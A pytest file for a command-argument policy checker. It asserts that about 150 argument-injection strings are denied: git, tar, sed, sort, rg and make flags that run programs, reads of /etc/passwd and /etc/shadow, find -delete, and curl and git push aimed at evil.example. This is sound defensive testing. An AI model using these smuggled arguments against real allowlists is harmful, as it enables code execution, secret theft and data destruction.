"""The ways in which arguments have made harmless programs run others, read or write elsewhere: each is refused.

The sandbox would hold all of them too; here it is not asked.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from fsserver.policy.arguments import judge
from fsserver.policy.compiled import Effect, Policy
from tests.policy_files import desk_in

# As their users would write them: each flag that is listed is one that somebody wants.
RULES = """\
version: 1
extends: [preset:git, preset:make]
roots: {app: {path: ~/app, mode: rw}, notes: {path: ~/notes}}
commands:
  find:
    exec: {in: app, find: bin/find}
    args:
      flags: {-name: text, -type: {enum: [f, d]}, -maxdepth: {int: {min: 0, max: 20}}}
      positionals: [{value: {path: {}}, repeat: 0..5}]
  sed:
    exec: {in: app, find: bin/sed}
    args:
      flags: {-n: flag, --quiet: flag}
      positionals: [{value: {match: "[0-9]{1,6}(,[0-9]{1,6})?p"}}, {value: {path: {}}}]
  sort:
    exec: {in: app, find: bin/sort}
    args: {flags: {-r: flag, -u: flag, -n: flag, -k: {int: {min: 1}}}, positionals: [{value: {path: {}}, repeat: 1..9}]}
  tar:
    exec: {in: app, find: bin/tar}
    args: {flags: {-t: flag, -z: flag, -v: flag, -f: {path: {}}, --exclude: text}}
  rg:
    exec: {in: app, find: bin/rg}
    args:
      flags: {-n: flag, -i: flag, -w: flag, -e: text, -g: text, -C: {int: {max: 20}}, --files: flag}
      positionals: [{value: text, repeat: 0..1}, {value: {path: {}}, repeat: 0..5}]
  grep:
    exec: {in: app, find: bin/grep}
    args: {flags: {-r: flag, -n: flag, -e: text}, positionals: [{value: text}, {value: {path: {}}, repeat: 0..5}]}
  echo:
    exec: {in: app, find: bin/echo}
    args: {positionals: [{value: text, repeat: 0..50}]}
  curl:
    exec: {in: app, find: bin/curl}
    args: {flags: {-s: flag}, positionals: [{value: {url: {schemes: [https], hosts: [example.com]}}}]}
"""


@pytest.fixture(scope="module")
def policy(tmp_path_factory: pytest.TempPathFactory) -> Policy:
    return desk_in(tmp_path_factory.mktemp("desk")).load(RULES)


def effect_of(policy: Policy, line: str | list[str]) -> Effect:
    name, *arguments = shlex.split(line) if isinstance(line, str) else line
    spellings = {root.name: (root.path,) for root in policy.roots}
    return judge(policy.commands[name], arguments, directory=("app", ""), spellings=spellings).effect


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("git -c alias.x=!id x", id="git: alias"),
        pytest.param("git -calias.x=!id x", id="git: alias, glued"),
        pytest.param("git --config-env=alias.x=HOME x", id="git: alias from the environment"),
        pytest.param("git -c core.pager=id log", id="git: pager"),
        pytest.param("git -p log", id="git: paginate"),
        pytest.param("git -C / log", id="git: another directory"),
        pytest.param("git -C/ log", id="git: another directory, glued"),
        pytest.param("git --git-dir=/tmp/evil status", id="git: another repository"),
        pytest.param("git --work-tree / status", id="git: another work tree"),
        pytest.param("git --exec-path=/tmp status", id="git: other programs"),
        pytest.param("git --paginate log", id="git: paginate, long"),
        pytest.param("git log --output=/tmp/x", id="git log: output"),
        pytest.param("git log --outpu /tmp/x", id="git log: output, abbreviated"),
        pytest.param("git diff --output=x", id="git diff: output"),
        pytest.param("git diff --ext-diff", id="git diff: external program"),
        pytest.param("git diff --textconv", id="git diff: external filter"),
        pytest.param("git diff --no-index /etc/passwd /etc/shadow", id="git diff: files of the host"),
        pytest.param("git diff /etc/passwd /etc/shadow", id="git diff: files of the host without the flag"),
        pytest.param("git diff -O/etc/passwd", id="git diff: order file"),
        pytest.param("git diff -- ../../etc/passwd", id="git diff: parent"),
        pytest.param("git log -n5 --format=%x00 --ext-diff", id="git log: one unlisted among listed"),
        pytest.param("git log -S x --pickaxe-all", id="git log: flags nobody listed"),
        pytest.param("git log -L :x:../../etc/passwd", id="git log: line range of a file"),
        pytest.param("git show HEAD -- -x", id="git show: a flag after --"),
        pytest.param("git show HEAD:../../x", id="git show: parent in a tree"),
        pytest.param("git blame --contents /etc/passwd a", id="git blame: contents"),
        pytest.param("git blame -S/etc/passwd a", id="git blame: revisions file"),
        pytest.param("git commit -F/etc/passwd", id="git commit: message file"),
        pytest.param("git commit --template=/etc/passwd", id="git commit: template"),
        pytest.param("git commit -S -m x", id="git commit: signs, with a program"),
        pytest.param("git commit --gpg-sign=x -m x", id="git commit: signs, long"),
        pytest.param("git commit -e -m x", id="git commit: editor"),
        pytest.param("git commit --no-verify -m x", id="git commit: without hooks"),
        pytest.param("git commit -m", id="git commit: no message, so an editor"),
        pytest.param("git commit -m --amend --no-edit x", id="git commit: a flag for a message"),
        pytest.param("git add --pathspec-from-file=/etc/passwd", id="git add: names from a file"),
        pytest.param("git add -e", id="git add: editor"),
        pytest.param("git add -i", id="git add: interactive"),
        pytest.param("git add -p", id="git add: patch"),
        pytest.param("git fetch --upload-pack=id origin", id="git fetch"),
        pytest.param("git clone --upload-pack=id x", id="git clone"),
        pytest.param("git clone ext::id x", id="git clone: ext"),
        pytest.param("git ls-remote --upload-pack=id .", id="git ls-remote"),
        pytest.param("git archive --remote=x --exec=id", id="git archive"),
        pytest.param("git grep --open-files-in-pager=id x", id="git grep"),
        pytest.param("git rebase -x id HEAD", id="git rebase"),
        pytest.param("git bisect run id", id="git bisect"),
        pytest.param("git submodule foreach id", id="git submodule"),
        pytest.param("git difftool -x id", id="git difftool"),
        pytest.param("git config --global core.pager id", id="git config"),
        pytest.param("git worktree add /tmp/x", id="git worktree"),
        pytest.param("git init --template=/tmp/x", id="git init"),
        pytest.param("git push --receive-pack=id origin", id="git push: program"),
        pytest.param("git push --exec=id origin", id="git push: program, by its other name"),
        pytest.param("git push --force origin", id="git push: force"),
        pytest.param("git push -f origin", id="git push: force, short"),
        pytest.param("git push origin +main", id="git push: force in the name"),
        pytest.param("git push origin :main", id="git push: deletes"),
        pytest.param("git push origin HEAD:main", id="git push: to another branch"),
        pytest.param("git push ext::id", id="git push: ext"),
        pytest.param("git push https://evil.example/", id="git push: elsewhere"),
        pytest.param("git switch --orphan -c x", id="git switch"),
        pytest.param("git branch --edit-description", id="git branch: editor"),
        pytest.param("git branch -D x", id="git branch: deletes what is not merged"),
        pytest.param("git tag -s x", id="git tag: signs"),
        pytest.param("git merge -s evil x", id="git merge: a strategy is a program"),
        pytest.param("git merge --strategy=evil x", id="git merge: strategy, long"),
        pytest.param("git evil", id="git: git-evil in the search path"),
        pytest.param("make -f/etc/passwd", id="make: another makefile"),
        pytest.param("make --file=x", id="make: another makefile, long"),
        pytest.param("make -C / all", id="make: another directory"),
        pytest.param("make -I/ all", id="make: includes"),
        pytest.param("make --eval='$(shell id)'", id="make: eval"),
        pytest.param("make -E'$(shell id)'", id="make: eval, short"),
        pytest.param("make SHELL=/tmp/x", id="make: variable"),
        pytest.param("make .SHELLFLAGS=-c", id="make: special variable"),
        pytest.param("make -e", id="make: environment wins"),
        pytest.param("make -j", id="make: without bound"),
        pytest.param("find . -exec id ;", id="find: exec"),
        pytest.param("find . -execdir id +", id="find: execdir"),
        pytest.param("find . -ok id ;", id="find: ok"),
        pytest.param("find . -delete", id="find: delete"),
        pytest.param("find -- -delete", id="find: delete after --, which it does not take for the end"),
        pytest.param("find . -fprintf /tmp/x %p", id="find: writes"),
        pytest.param("find -L / -name x", id="find: /"),
        pytest.param("find . -name -exec", id="find: a flag for a name"),
        pytest.param("find -files0-from /etc/passwd", id="find: names from a file"),
        pytest.param("find . ! -newer /etc/passwd", id="find: operators and the age of another file"),
        pytest.param("sed -n 1e a", id="sed: e"),
        pytest.param("sed -n '1w /tmp/x' a", id="sed: w"),
        pytest.param("sed -n '1r /etc/passwd' a", id="sed: r"),
        pytest.param("sed s/a/id/e a", id="sed: s with e"),
        pytest.param("sed -i 1p a", id="sed: in place"),
        pytest.param("sed -n1e a", id="sed: glued to a bare flag"),
        pytest.param("sed -ne id a", id="sed: script in a cluster"),
        pytest.param("sed --expression=1e a", id="sed: script, long"),
        pytest.param("sed -f /tmp/x a", id="sed: script file"),
        pytest.param(["sed", "1p\ne id", "a"], id="sed: a second line"),
        pytest.param("sort --compress-program=id a", id="sort: program"),
        pytest.param("sort --compress-prog=id a", id="sort: program, abbreviated"),
        pytest.param("sort --comp id a", id="sort: program, abbreviated more"),
        pytest.param("sort -o /tmp/x a", id="sort: output"),
        pytest.param("sort -ro/tmp/x a", id="sort: output in a cluster"),
        pytest.param("sort --files0-from=/etc/passwd", id="sort: names from a file"),
        pytest.param("sort -T/tmp a", id="sort: directory"),
        pytest.param("sort +1 -2", id="sort: old keys"),
        pytest.param("tar -t -f a --checkpoint=1 --checkpoint-action=exec=id", id="tar: checkpoint action"),
        pytest.param("tar -t -f a --checkpoint-act=exec=id", id="tar: checkpoint action, abbreviated"),
        pytest.param("tar -tIid -f a", id="tar: program in a cluster"),
        pytest.param("tar -t --use-compress-program=id -f a", id="tar: program"),
        pytest.param("tar -t --to-command=id -f a", id="tar: to command"),
        pytest.param("tar -x -f a", id="tar: extracts"),
        pytest.param("tar xf a", id="tar: flags without a dash"),
        pytest.param("tar -f host:a -t --rsh-command=id", id="tar: remote"),
        pytest.param("tar -t -f /etc/passwd", id="tar: another file"),
        pytest.param("rg --pre=id x", id="rg: preprocessor"),
        pytest.param("rg --pre id x", id="rg: preprocessor, next argument"),
        pytest.param("rg --hostname-bin=id x", id="rg: hostname program"),
        pytest.param("rg -z x", id="rg: decompressors"),
        pytest.param("rg -f/etc/passwd", id="rg: patterns from a file"),
        pytest.param("rg --ignore-file /etc/passwd x", id="rg: ignore file"),
        pytest.param("rg x /", id="rg: /"),
        pytest.param("rg -nwfx", id="rg: unlisted in a cluster"),
        pytest.param("rg -e --pre=id", id="rg: a flag for a pattern"),
        pytest.param("rg -- --pre=id", id="rg: a flag after --"),
        pytest.param("rg x -- -- y", id="rg: -- twice"),
        pytest.param("rg -C=5 x", id="rg: sign after a short flag"),
        pytest.param("rg -nC5 x", id="rg: value at the end of a cluster"),
        pytest.param("grep -rf/etc/passwd x", id="grep: patterns from a file in a cluster"),
        pytest.param("grep -f /etc/passwd x", id="grep: patterns from a file"),
        pytest.param("grep x ~root/../../etc/passwd", id="grep: a tilde is a name, and its parents are counted"),
        pytest.param("curl -o/tmp/x https://example.com/", id="curl: output"),
        pytest.param("curl -sK/tmp/x https://example.com/", id="curl: configuration in a cluster"),
        pytest.param("curl file:///etc/passwd", id="curl: file"),
        pytest.param("curl https://example.com@evil.example/", id="curl: another host"),
        pytest.param("curl https://example.com\\@evil.example/", id="curl: another host, backslash"),
        pytest.param("curl https://example.com#@evil.example/ https://evil.example/", id="curl: a second address"),
        pytest.param(["echo", "x"] * 5000, id="10,000 arguments"),
        pytest.param(["echo", "x" * 200_000], id="one long argument"),
        pytest.param(["echo", "a\0b"], id="NUL"),
        pytest.param(["git", "log", "\u2212n5", "-c"], id="a minus that is no dash is a name, -c is a flag"),
        pytest.param(["git", "\u2014exec-path=/tmp"], id="a long dash is no flag and no subcommand"),
        pytest.param(["git", " log"], id="a space before the subcommand"),
        pytest.param(["git", "log\n"], id="a line break after the subcommand"),
        pytest.param(["git", ""], id="an empty subcommand"),
        pytest.param(["make", "all\nevil"], id="a line break in a target"),
    ],
)
def test_an_argument_leak_is_refused(policy: Policy, line: str | list[str]) -> None:
    assert effect_of(policy, line) is Effect.DENY


@pytest.mark.parametrize(
    "line",
    [
        "git status --short",
        "git log -n5 --oneline main -- src",
        "git log --author='Ada <ada@example.com>' --since=2024-01-01",
        "git diff --cached",
        "git diff main..feature -- src/a.py",
        "git show HEAD~2:src/a.py",
        "git blame -L 1,20 src/a.py",
        "git add -A",
        "git add ./-C",
        "git commit -a -m 'It works'",
        "git commit --amend --no-edit",
        "git switch -c feature/x",
        "git restore --staged src/a.py",
        "git stash pop",
        "make -j4 -k test",
        "find . -maxdepth 2 -type f -name '*.py'",
        "sed -n 1,20p src/a.py",
        "sort -rn -k2 a b",
        "tar -tvz -f a.tgz --exclude='*.o'",
        "rg -n -C3 -g '!*.md' TODO src",
        "grep -rn TODO src",
        "curl -s https://example.com/a?b=c",
    ],
)
def test_what_people_want_is_allowed(policy: Policy, line: str) -> None:
    assert effect_of(policy, line) is Effect.ALLOW


@pytest.mark.parametrize(
    "character", [*";|&<>$`\\\"'*?[]{}()!#~%^=\n\t \x1b\x7f\u202e", "$(id)", "`id`", "a && id", "%00"]
)
def test_a_metacharacter_is_a_character(policy: Policy, character: str) -> None:
    """No shell sees it, so a text may hold it; what decides is the value that is listed."""
    assert effect_of(policy, ["echo", f"a{character}b"]) is Effect.ALLOW
    assert effect_of(policy, ["git", "commit", "-m", character]) is Effect.ALLOW
    assert effect_of(policy, ["git", f"status{character}"]) is Effect.DENY
    assert effect_of(policy, ["make", f"x{character}y"]) is Effect.DENY


def test_the_directory_of_a_call_counts_for_its_paths(policy: Policy, tmp_path: Path) -> None:
    git = policy.commands["git"]
    spellings = {root.name: (root.path,) for root in policy.roots}
    for directory, effect in (("", Effect.DENY), ("src", Effect.ALLOW)):
        judgement = judge(git, ["add", "../a"], directory=("app", directory), spellings=spellings)
        assert judgement.effect is effect
